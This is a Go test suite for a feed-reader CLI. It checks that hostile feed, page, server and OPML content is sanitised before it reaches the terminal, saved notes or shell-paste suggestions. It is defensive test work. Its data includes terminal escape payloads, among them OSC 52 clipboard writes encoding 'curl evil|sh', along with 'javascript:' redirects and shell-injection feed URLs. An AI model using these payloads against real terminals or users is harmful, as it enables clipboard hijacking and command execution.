package main

// Issue 8, hostile content: escape sequences and look-alike characters
// planted by a feed or a page travel through `fetch`, `list`, `feeds list`,
// `export`, `read` and `save` of the real binary, and none of them reaches
// the terminal or a note.

import (
	"bufio"
	"encoding/json"
	"fmt"
	"html"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"
)

// hostilePayloads are the sequences terminal-injection attacks use, as a
// feed or page would carry them.
var hostilePayloads = []struct {
	name, s string
	// xmlRefuses: a control character as an XML character reference is
	// not well-formed XML, and the feed is refused as malformed.
	xmlRefuses bool
}{
	{"CSI clear screen", "\x1b[2J\x1b[3J\x1b[H", false},
	{"CSI colour", "\x1b[1;31m", false},
	{"CSI alternate screen", "\x1b[?1049h", false},
	{"RIS full reset", "\x1bc", false},
	{"OSC 52 clipboard (BEL)", "\x1b]52;c;Y3VybCBldmlsfHNo\x07", false},
	{"OSC 52 clipboard (ST)", "\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\", false},
	{"OSC 8 hyperlink", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", false},
	{"OSC 0 window title", "\x1b]0;pwned\x07", false},
	{"DCS query", "\x1bP+q544e\x1b\\", false},
	{"APC kitty graphics", "\x1b_Gf=100,a=T;AAAA\x1b\\", false},
	{"C1 CSI", "\u009b2J", false},
	{"C1 OSC 52", "\u009d52;c;Y3VybCBldmlsfHNo\u009c", false},
	{"bidi override", "\u202egnp.exe\u202c", false},
	{"bidi isolate", "\u2066x\u2069", false},
	{"zero-width characters", "pay\u200bpal\u2060\ufeff", false},
	{"BEL and backspace", "\x07\x08\x08\x08", false},
	{"carriage return overwrite", "\rFAKE", false},
	{"DEL", "\x7f", false},
	{"ESC as a character reference", "&#27;[2J&#x1b;]52;c;Y3VybCBldmlsfHNo&#7;", true},
	{"C1 as a character reference", "&#x9b;2J", false},
	// Issue 15 item 6: invisible characters that hide or smuggle text.
	{"soft hyphen and invisible operators", "pay\u00adpal\u2061\u2062\u2063\u2064", false},
	{"tag characters", "\U000E0069\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065", false},
	{"line and paragraph separators", "\u2028FAKE\u2029", false},
}

// unsafeRunes lists what in s a terminal would obey or that disguises
// text: C0 and C1 controls (newline and tab aside), DEL, bidi controls,
// zero-width and other invisible characters, line and paragraph
// separators, and invalid UTF-8. Escapes spelled out as text
// ("\x1b" in a quoted error) are visible, not obeyed, and pass.
func unsafeRunes(s string) []string {
	var bad []string
	for i, r := range s {
		switch {
		case r == utf8.RuneError && !strings.HasPrefix(s[i:], "\uFFFD"):
			bad = append(bad, fmt.Sprintf("invalid UTF-8 at %d", i))
		case r == '\n' || r == '\t':
		case r < 0x20, r == 0x7f, r >= 0x80 && r <= 0x9f,
			r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069,
			r == 0x200b, r == 0x200e, r == 0x200f, r == 0x2060, r == 0xfeff, r == 0x061c,
			r == 0x00ad, r >= 0x2061 && r <= 0x2064, r >= 0xe0000 && r <= 0xe007f, r == 0x2028, r == 0x2029:
			bad = append(bad, fmt.Sprintf("%U", r))
		}
	}
	return bad
}

// assertSafe fails with each line of out that holds something unsafe. JSON
// output is also decoded, since `jq -r` turns a "\u001b" back into ESC.
func assertSafe(t *testing.T, what, out string) {
	t.Helper()
	sc := bufio.NewScanner(strings.NewReader(out))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		if bad := unsafeRunes(sc.Text()); len(bad) > 0 {
			t.Errorf("%s: %v in %q", what, bad, sc.Text())
		}
	}
	if trimmed := strings.TrimSpace(out); strings.HasPrefix(trimmed, "[") || strings.HasPrefix(trimmed, "{") {
		var v any
		if err := json.Unmarshal([]byte(trimmed), &v); err != nil {
			t.Errorf("%s: not JSON: %v", what, err)
			return
		}
		walkStrings(v, func(s string) {
			if bad := unsafeRunes(s); len(bad) > 0 {
				t.Errorf("%s: JSON string holds %v: %q", what, bad, s)
			}
		})
	}
}

// walkStrings calls f on every string (keys too) in a decoded JSON value.
func walkStrings(v any, f func(string)) {
	switch v := v.(type) {
	case string:
		f(v)
	case []any:
		for _, e := range v {
			walkStrings(e, f)
		}
	case map[string]any:
		for k, e := range v {
			f(k)
			walkStrings(e, f)
		}
	}
}

// xmlText puts a payload into XML text: raw, except that the character
// references stay references (the parser decodes them) and the markup
// characters are escaped.
func xmlText(p string) string {
	if strings.Contains(p, "&#") {
		return p
	}
	return html.EscapeString(p)
}

// hostileContentServer serves one RSS feed per payload and one article
// page per payload; every title, name, body and link carries the payload.
func hostileContentServer(t *testing.T) *httptest.Server {
	t.Helper()
	mux := http.NewServeMux()
	mux.HandleFunc("/feed/{n}", func(w http.ResponseWriter, r *http.Request) {
		n, err := strconv.Atoi(r.PathValue("n"))
		if err != nil || n >= len(hostilePayloads) {
			http.NotFound(w, r)
			return
		}
		p := xmlText(hostilePayloads[n].s)
		w.Header().Set("Content-Type", "application/rss+xml")
		fmt.Fprintf(w, `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>
<title>Feed%02d %s end</title><link>http://%s/%s</link><description>d %s</description>
<item><title>Story%02d %s end</title><link>http://%s/page/%02d</link><guid>a%02d</guid>
<dc:creator>Author%02d %s</dc:creator><category>tag%02d%s</category>
<pubDate>Sat, 23 Mar 2024 10:00:00 GMT</pubDate>
<description>&lt;p&gt;Body%02d %s end&lt;/p&gt;</description></item>
<item><title>Link%02d %s end</title><link>http://%s/page/%02d/%s</link><guid>b%02d%s</guid>
<pubDate>Sat, 23 Mar 2024 09:00:00 GMT</pubDate></item>
</channel></rss>`, n, p, r.Host, p, p,
			n, p, r.Host, n, n,
			n, p, n, p,
			n, p,
			n, p, r.Host, n, p, n, p)
	})
	mux.HandleFunc("/page/{n}", func(w http.ResponseWriter, r *http.Request) {
		n, err := strconv.Atoi(r.PathValue("n"))
		if err != nil || n >= len(hostilePayloads) {
			http.NotFound(w, r)
			return
		}
		p := xmlText(hostilePayloads[n].s)
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">
<title>Page%02d %s end | The Courier</title>
<meta property="og:site_name" content="Courier%s">
<meta name="author" content="Writer%02d %s">
<meta property="article:published_time" content="2024-03-23T08:00:00+00:00">
<meta property="og:image" content="https://img.example/lead%s.jpg">
</head><body><article><h1>Page%02d %s end</h1>
<p class="byline">By Writer%02d %s</p>
<p>The town harbour reopened %s to fishing boats on Saturday, three months after the winter storm broke its outer wall and left the quays under water for weeks.</p>
<p>Engineers rebuilt the wall with larger stone blocks, and the <a href="https://port.example/report%s">damage %s report</a> lists every repair made since January.</p>
<p>By mid-morning more than forty boats had sailed out, and the fish market opened its doors <code>%s</code> for the first time this year.</p>
<p><img src="https://img.example/boat%s.png" alt="boats %s"></p>
<p>"We lost the whole winter season, but today feels like a new start," said a skipper who has fished from the harbour for thirty years.</p>
</article></body></html>`, n, p, p, n, p, p, n, p, n, p, p, p, p, p, p, p)
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv
}

// The feed-wide commands: everything a feed says, after `fetch`.
func TestHostileFeedTextNeverReachesTheTerminal(t *testing.T) {
	srv := hostileContentServer(t)
	var cfg strings.Builder
	cfg.WriteString("[refresh]\nper_host = 8\n\n")
	for i := range hostilePayloads {
		fmt.Fprintf(&cfg, "[[feeds]]\nurl = %q\n\n", fmt.Sprintf("%s/feed/%02d", srv.URL, i))
	}
	e := newFeedsEnv(t, cfg.String())
	refused := 0
	for _, p := range hostilePayloads {
		if p.xmlRefuses {
			refused++
		}
	}
	if r := e.run(t, "", "fetch"); r.code != 0 || !strings.Contains(r.stdout, fmt.Sprintf("%d of %d feeds fetched", len(hostilePayloads)-refused, len(hostilePayloads))) {
		t.Fatalf("fetch: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	for _, args := range [][]string{
		{"fetch"}, {"list"}, {"list", "--json"}, {"feeds", "list"}, {"feeds", "list", "--json"}, {"export"},
	} {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			r := e.run(t, "", args...)
			if r.code != 0 {
				t.Fatalf("exit %d: %s", r.code, r.stderr)
			}
			assertSafe(t, "stdout", r.stdout)
			assertSafe(t, "stderr", r.stderr)
		})
	}
	// The text around each payload is still there to read.
	list := e.run(t, "", "list").stdout
	feeds := e.run(t, "", "feeds", "list").stdout
	for i, p := range hostilePayloads {
		if p.xmlRefuses {
			continue
		}
		if !strings.Contains(list, fmt.Sprintf("Story%02d", i)) || !strings.Contains(list, fmt.Sprintf("Link%02d", i)) {
			t.Errorf("%s: its stories are missing from the list:\n%s", p.name, list)
		}
		if !strings.Contains(feeds, fmt.Sprintf("Feed%02d", i)) {
			t.Errorf("%s: its feed title is missing from feeds list:\n%s", p.name, feeds)
		}
	}
}

// One page per payload through `read` in every format and through `save`
// (by story id, so the store's copy of the feed's text is involved too).
func TestHostilePageNeverReachesTheTerminalOrANote(t *testing.T) {
	srv := hostileContentServer(t)
	var cfg strings.Builder
	for i := range hostilePayloads {
		fmt.Fprintf(&cfg, "[[feeds]]\nurl = %q\n\n", fmt.Sprintf("%s/feed/%02d", srv.URL, i))
	}
	e := newFeedsEnv(t, cfg.String())
	if r := e.run(t, "", "fetch"); r.code != 0 {
		t.Fatalf("fetch: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	ids := map[string]string{} // "StoryNN" -> story id
	for _, line := range strings.Split(e.run(t, "", "list").stdout, "\n") {
		if f := strings.Fields(line); len(f) > 0 {
			for i := range hostilePayloads {
				for _, k := range []string{fmt.Sprintf("Story%02d", i), fmt.Sprintf("Link%02d", i)} {
					if strings.Contains(line, k) {
						ids[k] = f[0]
					}
				}
			}
		}
	}
	notes := t.TempDir()
	for i, p := range hostilePayloads {
		t.Run(p.name, func(t *testing.T) {
			u := fmt.Sprintf("%s/page/%02d", srv.URL, i)
			for _, format := range []string{"markdown", "text", "json"} {
				r := e.run(t, "", "read", "--format", format, u)
				if r.code != 0 {
					t.Fatalf("read --format %s: exit %d: %s", format, r.code, r.stderr)
				}
				assertSafe(t, "read --format "+format, r.stdout+r.stderr)
				// The words after each payload too: a sequence left open
				// must not swallow the rest of the line or the paragraphs
				// after it.
				for _, want := range []string{"harbour reopened", "to fishing boats on Saturday", "lists every repair made", "the fish market opened", fmt.Sprintf("Page%02d", i)} {
					if !strings.Contains(r.stdout, want) {
						t.Errorf("read --format %s lost %q:\n%s", format, want, r.stdout)
					}
				}
			}
			for _, k := range []string{fmt.Sprintf("Story%02d", i), fmt.Sprintf("Link%02d", i)} {
				if p.xmlRefuses {
					break
				}
				id, ok := ids[k]
				if !ok {
					t.Fatalf("%s is not in tidings list", k)
				}
				r := e.run(t, "", "save", "-o", notes, id)
				assertSafe(t, "save "+k, r.stdout+r.stderr)
				if r.code != 0 {
					// The hostile link cannot be fetched; the story is saved
					// from the feed's text or refused with a clean reason.
					t.Logf("save %s: exit %d: %s", k, r.code, strings.TrimSpace(r.stderr))
					continue
				}
				path := strings.TrimSpace(r.stdout)
				b, err := os.ReadFile(path)
				if err != nil {
					t.Fatalf("save %s: %v", k, err)
				}
				assertSafe(t, "note "+path, string(b))
				if name := path[strings.LastIndex(path, "/")+1:]; len(unsafeRunes(name)) > 0 {
					t.Errorf("note file name %q", name)
				}
			}
		})
	}
}

// rawServer answers every connection with the bytes resp returns for the
// request's path: a reason phrase or a Location that net/http's server
// would never write.
func rawServer(t *testing.T, resp func(path string) string) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				req, err := http.ReadRequest(bufio.NewReader(c))
				if err != nil {
					return
				}
				c.Write([]byte(resp(req.URL.Path)))
			}()
		}
	}()
	return "http://" + ln.Addr().String()
}

// Error messages carry text the server chose (a reason phrase, a redirect
// target): they are one clean line.
func TestHostileServerWordsInErrors(t *testing.T) {
	const evil = "\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\u009b31m\u202e"
	base := rawServer(t, func(path string) string {
		switch path {
		case "/reason":
			return "HTTP/1.1 503 Service" + evil + " Unavailable\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
		case "/redirect":
			return "HTTP/1.1 302 Found\r\nLocation: /next" + evil + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
		case "/redirect-js":
			return "HTTP/1.1 302 Found\r\nLocation: javascript:alert(1)" + evil + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
		case "/redirect-utf8": // bytes net/http accepts in a header
			return "HTTP/1.1 302 Found\r\nLocation: /gone\u202egnp.exe\u009b2J\u200b\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
		case "/redirect-scheme":
			return "HTTP/1.1 302 Found\r\nLocation: javascript:alert(1)\u202e\u009d52;c;Y3VybCBldmlsfHNo\u009c\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
		case "/header":
			return "HTTP/1.1 429 Too Many\r\nRetry-After: " + evil + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
		}
		return "HTTP/1.1 404 Not" + evil + " Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
	})
	paths := []string{"/reason", "/redirect", "/redirect-js", "/redirect-utf8", "/redirect-scheme", "/header", "/missing"}
	for _, p := range paths {
		t.Run("read "+p, func(t *testing.T) {
			r := tidings(t, "", "read", "--timeout", "2s", base+p)
			if r.code != 1 || strings.Count(r.stderr, "\n") != 1 || !strings.HasPrefix(r.stderr, "tidings: "+base+p) {
				t.Errorf("exit %d, stderr %q: want 1 and one line naming the URL", r.code, r.stderr)
			}
			assertSafe(t, "stderr", r.stderr)
			t.Logf("%s", strings.TrimSpace(r.stderr))
		})
	}
	var cfg strings.Builder
	for _, p := range paths {
		fmt.Fprintf(&cfg, "[[feeds]]\nurl = %q\n\n", base+p)
	}
	e := newFeedsEnv(t, cfg.String())
	for _, args := range [][]string{{"fetch"}, {"feeds", "list"}, {"feeds", "list", "--json"}} {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			r := e.run(t, "", args...)
			assertSafe(t, "stdout", r.stdout)
			assertSafe(t, "stderr", r.stderr)
			if args[0] == "fetch" && strings.Count(r.stdout, "\n") != 1+len(paths) {
				t.Errorf("want a summary and one line per feed:\n%s", r.stdout)
			}
			t.Logf("\n%s%s", r.stdout, r.stderr)
		})
	}
}

// A page may advertise feeds at addresses built to run commands when its
// suggestion line is pasted into a shell, with titles full of escapes: the
// line `feeds add` prints quotes the address so that a shell reads it back
// as that one word, and runs nothing.
func TestDiscoveredFeedSuggestionsAreShellSafe(t *testing.T) {
	if _, err := exec.LookPath("sh"); err != nil {
		t.Skip("needs sh")
	}
	hostile := []string{
		"/a';touch pwned1;'.xml",
		"/b$(touch${IFS}pwned2).xml",
		"/c\";touch pwned3;\".xml",
		"/d|touch${IFS}pwned4&.xml",
	}
	mux := http.NewServeMux()
	mux.HandleFunc("/feed.xml", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/rss+xml")
		w.Write([]byte(rssDoc("Good", "One story")))
	})
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, `<!DOCTYPE html><html><head><title>Site</title>
<link rel="alternate" type="application/rss+xml" title="Good" href="/feed.xml">`)
		for i, h := range hostile {
			fmt.Fprintf(w, `<link rel="alternate" type="application/rss+xml" title="Feed %d &#x1b;]52;c;Y3VybCBldmlsfHNo&#x7; &#x202e;evil" href="%s">`+"\n", i, html.EscapeString(h))
		}
		fmt.Fprint(w, `</head><body></body></html>`)
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	e := newFeedsEnv(t, "")
	r := e.run(t, "", "feeds", "add", srv.URL+"/")
	if r.code != 0 {
		t.Fatalf("feeds add: %d %s%s", r.code, r.stdout, r.stderr)
	}
	assertSafe(t, "feeds add", r.stdout+r.stderr)
	dir := t.TempDir()
	n := 0
	for _, line := range strings.Split(r.stdout, "\n") {
		cmdline, ok := strings.CutPrefix(line, "  tidings feeds add ")
		if !ok {
			continue
		}
		n++
		// What a shell makes of the pasted line, with echo standing in
		// for tidings.
		sh := exec.Command("sh", "-c", "printf '%s\\n' "+cmdline)
		sh.Dir = dir
		out, err := sh.Output()
		if err != nil {
			t.Errorf("sh on %q: %v", cmdline, err)
			continue
		}
		words := strings.Split(strings.TrimSuffix(string(out), "\n"), "\n")
		if len(words) != 1 || !strings.HasPrefix(words[0], srv.URL+"/") {
			t.Errorf("a shell reads %q as %q, want one address", cmdline, words)
		}
	}
	if n != len(hostile) {
		t.Errorf("%d suggestions, want %d:\n%s", n, len(hostile), r.stdout)
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 0 {
		t.Errorf("pasting the suggestions ran commands: %v", entries)
	}
}

// An OPML file from somewhere else names feeds, folders and categories as
// it likes: what XML allows of the payloads (C1 controls, DEL, bidi and
// zero-width characters; ESC itself makes the file malformed) never comes
// back out of import, feeds list or export.
func TestHostileOPMLImport(t *testing.T) {
	const evil = "\u009b2J\u009d52;c;Y3VybCBldmlsfHNo\u009c\x7f\u202egnp.exe\u200b"
	opml := `<?xml version="1.0"?><opml version="1.0"><head><title>t` + evil + `</title></head><body>
<outline text="Folder` + evil + `"><outline type="rss" text="Feed` + evil + `" xmlUrl="http://127.0.0.1:9/a` + evil + `.xml" htmlUrl="http://127.0.0.1:9/` + evil + `" category="/tag` + evil + `"/></outline>
</body></opml>`
	e := newFeedsEnv(t, "")
	r := e.run(t, opml, "import", "-")
	if r.code != 0 {
		t.Fatalf("import: %d %s%s", r.code, r.stdout, r.stderr)
	}
	assertSafe(t, "import", r.stdout+r.stderr)
	for _, args := range [][]string{{"feeds", "list"}, {"feeds", "list", "--json"}, {"export"}} {
		r := e.run(t, "", args...)
		assertSafe(t, strings.Join(args, " "), r.stdout+r.stderr)
		if !strings.Contains(r.stdout, "Feed") {
			t.Errorf("%s lost the feed:\n%s", strings.Join(args, " "), r.stdout)
		}
	}
	bad := "<?xml version=\"1.0\"?><opml version=\"1.0\"><body><outline text=\"a\x1b]52;c;Y3VybCBldmlsfHNo\x07\" xmlUrl=\"http://127.0.0.1:9/x\"/></body></opml>"
	r = e.run(t, bad, "import", "-")
	if r.code != 1 || strings.Count(r.stderr, "\n") != 1 {
		t.Errorf("an OPML with ESC: exit %d, stderr %q; want a one-line refusal", r.code, r.stderr)
	}
	assertSafe(t, "import of a malformed OPML", r.stdout+r.stderr)
}
